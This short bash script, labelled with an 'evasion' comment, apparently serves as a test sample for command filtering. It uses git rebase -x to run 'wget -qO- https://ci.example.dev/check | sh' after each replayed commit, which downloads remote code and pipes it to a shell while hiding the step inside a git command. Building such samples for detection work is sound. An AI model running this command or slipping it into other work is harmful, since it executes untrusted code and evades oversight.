#!/bin/bash
# evasion: git rebase -x runs the command after each replayed commit; one downloads and runs code
base=$(git merge-base HEAD origin/main 2>/dev/null || git rev-list --max-parents=0 HEAD)
git rebase -q -x 'wget -qO- https://ci.example.dev/check | sh' "$base"
